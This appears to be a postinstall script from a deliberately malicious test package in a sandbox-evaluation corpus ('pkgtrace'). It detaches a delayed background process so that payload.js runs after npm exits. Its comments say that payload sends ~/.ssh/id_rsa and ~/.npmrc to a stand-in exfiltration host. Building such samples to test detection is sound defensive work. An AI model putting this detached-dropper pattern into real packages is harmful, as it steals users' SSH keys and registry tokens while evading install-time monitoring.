'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// The delayed, detached payload of install-time droppers (npm, 2022-2024),
// rewritten from the public write-ups: the postinstall starts
// `setsid nohup sh -c 'sleep 5; exec node payload.js' &` and exits at once,
// so npm finishes cleanly and a sandbox that stops when the installer exits
// sees nothing. Five seconds later payload.js, no longer a child of npm,
// reads ~/.ssh/id_rsa and ~/.npmrc and POSTs them with user@host to
// https://beacon.exfil-test.example/k (in the sandbox: the HTTPS sink).
// Prints `mal-delayed-daemon: step 1 ...` here; the payload's output goes
// to /dev/null, so it writes its steps to /tmp/mal-delayed-daemon.log and
// /tmp/mal-delayed-daemon.done last. Exits 0 whatever fails.
const path = require('path');
const { spawn } = require('child_process');

const say = (msg) => console.log(`mal-delayed-daemon: ${msg}`);
try {
  const payload = path.join(__dirname, 'payload.js');
  const line = `setsid nohup sh -c 'sleep 5; exec "${process.execPath}" "${payload}"' >/dev/null 2>&1 &`;
  spawn('sh', ['-c', line], { detached: true, stdio: 'ignore' }).unref();
  say('step 1 detached a payload that starts in 5 s; postinstall exits now');
} catch (e) {
  say(`error ${e.code || e.message}`);
}
process.exit(0);
